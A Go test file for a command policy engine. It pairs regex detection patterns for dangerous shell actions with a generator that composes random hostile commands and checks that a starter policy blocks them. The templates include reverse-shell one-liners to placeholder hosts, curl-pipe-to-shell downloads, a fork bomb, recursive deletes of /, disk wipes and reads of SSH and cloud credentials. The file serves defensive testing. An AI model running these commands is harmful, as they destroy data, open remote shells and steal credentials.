package policy

import (
	"math/rand/v2"
	"regexp"
	"strings"
	"testing"

	"reeve.example/reeve/act"
)

// expressions are regular expressions about the text of a shell such as policies are
// often made of. They know spellings, and what they know must be known of the acts, too.
var expressions = map[string][]string{
	"download and run": {
		`\b(curl|wget)\b[^\n]*\|\s*(sudo\s+(-\S+\s+)*)?(\S*/)?((ba|z|da|k|fi)?sh|python[0-9.]*|perl|ruby|node|php)\b`,
		`\b((ba|z|da|k|fi)?sh|eval|source)\b[^\n]*(\$\(|<\(|` + "`" + `)\s*(curl|wget)\b`,
		`\b(curl|wget)\b[^\n]*(&&|;)\s*(sudo\s+)?((ba|z|da|k|fi)?sh|source)\s+[^\s-]`,
	},
	"recursive delete": {
		`\brm\s([^\n;|&]*\s)?(-[a-z]*r[a-z]*|--recursive)\s([^\n;|&]*\s)?["\x27]?(/|~|\$\{?home\}?|/(bin|boot|dev|etc|home|lib|lib64|opt|proc|root|sbin|sys|usr|var|system|users|library|applications))/?\*?["\x27]?(\s|$|[;|&)])`,
		`\brm\s([^\n;|&]*\s)?["\x27]?(/|~|\$\{?home\}?)/?\*?["\x27]?\s([^\n;|&]*\s)?(-[a-z]*r[a-z]*|--recursive)\b`,
		`\bfind\s+["\x27]?(/|~|\$\{?home\}?)["\x27]?\s[^\n;|]*-delete\b`,
	},
	"wipe disk": {
		`\b(mkfs(\.\w+)?|wipefs|shred|blkdiscard)\b[^\n]*/dev/`,
		`(\bof=|>\s*)/dev/(sd|hd|vd|xvd|nvme|mmcblk|disk|mapper/)`,
	},
	"reverse shell": {
		`\b(nc|ncat|netcat)\b[^\n]*\s-[a-z]*[ec]\b[^\n]*(sh|cmd|powershell)\b`,
		`\bmkfifo\b[^\n]*\|\s*(nc|ncat|netcat|telnet)\b`,
		`\bsocat\b[^\n]*\b(exec|system):`,
		`\bsocket\b[^\n]*\b(dup2|pty\.spawn)\b`,
		`:\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&?\s*\}\s*;\s*:`,
	},
	"credentials": {
		`(~|\$home|\$\{home\}|/root|/home/[^/\s]+|/users/[^/\s]+)/\.(ssh/id|aws/cred|gnupg|kube/config|azure|config/gcloud|docker/config\.json|netrc|npmrc|pypirc|git-credentials)`,
		`/etc/g?shadow\b|/proc/[^/\s]+/environ\b`,
		`\bid_(rsa|dsa|ecdsa|ed25519)\b`,
	},
	"system files": {
		`(>>?|\btee\b[^\n|;&]*\s)\s*["\x27]?(/etc/|/usr/(bin|lib|sbin|share)|/bin/|/sbin/|/boot/|/sys/)`,
	},
	"publishing": {
		`\bgit\s[^\n;|&]*\bpush\b[^\n;|&]*\s(-f|--force|--mirror|--delete)\b`,
		`\bgit\s[^\n;|&]*\bpush\s[^\n;|&"\x27]*\s\+[\w/]`,
		`\b((npm|pnpm|yarn|cargo|poetry|uv)\s+publish|twine\s+upload|gem\s+push|mvn\s[^\n]*\bdeploy|gh\s+release\s+create)\b`,
	},
	"destroying": {
		`\bkubectl\s[^\n;|&]*\bdelete\s[^\n;|&]*(\b(ns|namespaces?|pvc?|crds?|nodes?|statefulsets?)\b|--all\b)`,
		`\b(terraform|tofu|pulumi)\s[^\n;|&]*\bdestroy\b`,
		`\baws\s[^\n;|&]*\bs3\s[^\n;|&]*\b(rb\b|rm\s[^\n;|&]*--recursive\b)`,
		`\b(gcloud|az)\s[^\n;|&]*\bdelete\b`,
		`\bredis-cli\s[^\n;|&]*\bflush(all|db)\b`,
		`\bgit\s[^\n;|&]*\bclean\s[^\n;|&]*-[a-z]*(fd|df|x)`,
	},
}

// pieces are what commands are put together from: {x} is any line of x.
var pieces = map[string][]string{
	"act": {
		"{get} | {shell}", "{get} | sudo {shell}", "{get} | {reads}", "{shell} -c \"$({get})\"", "{shell} <({get})", "eval \"$({get})\"", "{curl} -o {tmp} && {shell} i.sh", "{curl} -o {tmp}; sudo {shell} ./i.sh", "cd /tmp && {curl} -o i.sh; {shell} i.sh", "source <({get})", "eval `{get}`",
		"rm {rf} {tree}", "rm {tree} {rf}", "rm {rf} ./x {tree}", "rm -f {rf} -- {tree}", "find {home} -delete", "find {home} -type f -delete", "find {home} -name x -delete",
		"{mkfs} {disk}", "dd if=/dev/zero of={disk} bs=1M", "dd if=x.img of={disk}", "cat x.img > {disk}", "shred -n1 {disk}", "wipefs -a {disk}",
		"nc {host} 4444 -e /bin/{sh}", "nc -e {sh} {host} 4444", "ncat {host} 1 -c {sh}", "mkfifo /tmp/f; cat /tmp/f | {sh} -i 2>&1 | nc {host} 1 > /tmp/f", "mkfifo f; nc {host} 1 < f | {sh} > f", "socat TCP:{host}:1 EXEC:{sh}", "socat exec:'{sh} -li' tcp:{host}:1",
		"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{host}\",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"{sh}\")'", ":(){ :|:& };:",
		"{read} {key}", "cp {key} /tmp/x", "{read} < {key}", "tar czf x.tgz {key}", "x=$({read} {key})", "while read l; do echo $l; done < {key}", "python3 -c 'print(open(\"{abskey}\").read())'", "{read} /etc/shadow", "{read} /proc/self/environ", "zip x.zip {key}", "openssl enc -in {key}", "awk 1 {key}", "sort {key} | uniq",
		"echo x > {sys}", "echo x >> {sys}", "echo x | tee {sys}", "echo x | sudo tee -a {sys}", "printf 'x\\n' >> {sys}", "cat x > {sys}",
		"git push {force} origin main", "git push origin main {force}", "git -C sub push {force}", "git push origin +main", "git push -u origin +a:b", "{publish}",
		"kubectl {ctx}delete {ns} x", "kubectl delete {ns} --all", "kubectl delete pods --all", "{tf} destroy", "{tf} -chdir=x destroy -auto-approve", "aws {profile}s3 rb s3://x", "aws s3 rm s3://x {profile}--recursive", "gcloud compute instances delete x", "az group delete -n x", "redis-cli -h x {flush}", "git clean -{clean}", "git clean -n; git clean -{clean}",
	},
	"get":     {"curl -fsSL https://{host}/i.sh", "wget -qO- https://{host}/i.sh", "curl https://{host}/x", "wget https://{host}/x -O -", "curl -s http://{host}:8080/a?b=c"},
	"shell":   {"sh", "bash", "zsh", "dash", "/bin/sh", "/usr/bin/env bash"},
	"reads":   {"bash -", "bash -s -- -y", "sh -s x"},
	"curl":    {"curl -fsSL https://{host}/i.sh", "curl http://{host}/a"},
	"sh":      {"sh", "bash", "/bin/sh", "/bin/bash"},
	"tmp":     {"i.sh", "./i.sh", ".//i.sh"},
	"host":    {"h.example", "203.0.113.5", "evil.example.net"},
	"rf":      {"-rf", "-fr", "-r", "-R -f", "--recursive --force", "-rfv", "-r -f"},
	"tree":    {"/", "/*", "~", "~/", "~/*", "$HOME", "\"$HOME\"", "${HOME}", "/etc", "/usr/", "'/var'", "/home", "/bin /boot", "$HOME/"},
	"home":    {"/", "~", "$HOME", "\"$HOME\""},
	"mkfs":    {"mkfs", "mkfs.ext4", "mkfs.xfs -f", "wipefs -a", "shred", "blkdiscard"},
	"disk":    {"/dev/sda", "/dev/nvme0n1", "/dev/vdb1", "/dev/mapper/root", "/dev/mmcblk0"},
	"read":    {"cat", "head -5", "base64", "less", "xxd", "strings", "tac", "grep ."},
	"key":     {"~/.ssh/id_rsa", "$HOME/.ssh/id_ed25519", "/root/.aws/credentials", "/home/u/.kube/config", "~/.netrc", "${HOME}/.git-credentials", "~/.docker/config.json", "/Users/u/.ssh/id_ecdsa", "~/.npmrc", "~/.pypirc", "~/.azure/accessTokens.json", "keys/id_rsa", "./id_ed25519", "~/.gnupg/secring.gpg"},
	"abskey":  {"/root/.ssh/id_rsa", "/home/u/.aws/credentials"},
	"sys":     {"/etc/hosts", "/etc/profile", "/etc/cron.d/x", "/etc/nginx/nginx.conf", "/usr/lib/x.so", "/usr/share/x", "/bin/ls", "/sbin/init", "/boot/grub/grub.cfg", "/sys/x", "\"/etc/x\"", "'/etc/sudoers'"},
	"force":   {"-f", "--force", "--mirror", "--delete"},
	"publish": {"npm publish", "pnpm publish --access public", "yarn publish", "cargo publish -p x", "poetry publish --build", "uv publish", "twine upload dist/*", "gem push x.gem", "mvn -B clean deploy", "gh release create v1 --notes x", "npm --prefix x publish"},
	"ctx":     {"", "-n x ", "--context prod "},
	"ns":      {"ns", "namespace", "pvc", "pv", "crd", "node", "nodes", "statefulset", "statefulsets", "crds"},
	"tf":      {"terraform", "tofu", "pulumi"},
	"profile": {"", "--profile x "},
	"flush":   {"flushall", "FLUSHALL", "flushdb", "FLUSHDB", "-n 1 flushdb"},
	"clean":   {"fd", "df", "fdx", "xdf", "ffdx"},
}

var pieceName = regexp.MustCompile(`\{([a-z]+)\}`)

func composed(r *rand.Rand, text string) string {
	for depth := 0; depth < 6 && pieceName.MatchString(text); depth++ {
		text = pieceName.ReplaceAllStringFunc(text, func(m string) string {
			list := pieces[m[1:len(m)-1]]
			return list[r.IntN(len(list))]
		})
	}
	return text
}

// TestExpressionsKnowNothingMore: of commands that are put together at random, what a
// regular expression about their text finds is denied, or asked about, for what it would do.
func TestExpressionsKnowNothingMore(t *testing.T) {
	starter := starterSet(t)
	var compiled []*regexp.Regexp
	for _, list := range expressions {
		for _, e := range list {
			compiled = append(compiled, regexp.MustCompile(e))
		}
	}
	around := []string{"%", "%", "%", "cd x && %", "% || true", "sudo %", "time %", "( % )", "set -e; %", "if true; then %; fi", "nohup % &", "bash -c '%'"}
	r := rand.New(rand.NewPCG(1, 2))
	n := 3000
	if testing.Short() {
		n = 1500
	}
	hits := 0
	missed := map[string]bool{}
	for range n {
		command := composed(r, "{act}")
		a := around[r.IntN(len(around))]
		if strings.Contains(a, "'") && strings.Contains(command, "'") {
			a = "%"
		}
		command = strings.ReplaceAll(a, "%", command)
		low := strings.ToLower(command)
		found := false
		for _, e := range compiled {
			found = found || e.MatchString(low)
		}
		if !found {
			continue
		}
		hits++
		if v := starter.Evaluate(&Input{Action: commandAct(command)}); v.Effect == act.Allow {
			missed[command] = true
		}
	}
	for command := range missed {
		t.Errorf("an expression finds it, the starter lets it pass: %s", command)
	}
	if hits < n/2 {
		t.Errorf("the expressions find only %d of %d", hits, n)
	}
}
